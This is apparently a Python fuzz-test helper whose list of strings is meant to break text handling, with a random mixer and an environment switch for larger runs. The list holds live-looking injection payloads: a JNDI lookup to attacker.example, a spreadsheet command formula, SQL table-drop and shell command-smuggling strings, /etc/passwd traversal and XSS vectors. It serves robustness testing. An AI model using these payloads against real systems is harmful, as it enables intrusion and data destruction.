"""Texts that have broken programs before, and how many of them a run tries: few in the suite, all with `make hostile`."""

from __future__ import annotations

import os
from random import Random

PARTS = (
    "<img src='file:///etc/passwd'>", "<b>", "</b>", "<a href='https://example.org/x'>here</a>", "&lt;script&gt;", "<!--",
    "<table><tr><td>", "//attacker.example/share/x.png", "\\\\attacker\\share\\x", "<style>*{display:none}</style>", "&amp;",
    "\u202e", "\u200b", "\u2066", "\ufeff", "\0", "\x1b[31m", "\r\n", "\u2028", "{name}", "{0}", "%s", "&Z", "=cmd|' /C calc'!A0",
    "'; DROP TABLE queue; --", "\U0001f468\u200d\U0001f469", "ab" * 200, "a\u0301" * 50, "مرحبا", "<svg onload=1>", "]]>",
    "<qt>", "<html><body background='file:///tmp/x.png'>", "![x](file:///etc/passwd)", "tel:999", "file:///etc/passwd",
    "\u202d", "\u202a", "\u202b", "\u2067", "\u2068", "\u2069", "\u202c", "\\u202e", "\\\\u202e", "\x7f", "\u0085", "\uffff",
    "שלום", "<meta http-equiv=refresh content=0>", "javascript:alert(1)", "data:text/html,x", "<object data=x>", "%n%n%n",
    "${jndi:ldap://attacker.example/a}", "{{7*7}}", "{% raw %}", "$(reboot)", "`reboot`", "|reboot", "\U000e0041", "Z" + "\u0300" * 80,
    "𝕿𝖊𝖘𝖙", "ﷺ", "\u3000", "\t", "NaN", "null", "undefined", "-1", "1e999", "0x41", "../../etc/passwd", "CON", "😀" * 30,
)  # fmt: skip


def texts(seed: int, count: int) -> list[str]:
    """Return texts made from these parts, the same for the same seed."""
    rng = Random(seed)
    return ["".join(rng.choices(PARTS, k=rng.randint(1, 5))) for _ in range(count)]


def count(in_the_suite: int, in_all: int) -> int:
    """Return how many a run tries: `make hostile` sets HOSTILE."""
    return in_all if os.environ.get("HOSTILE") else in_the_suite
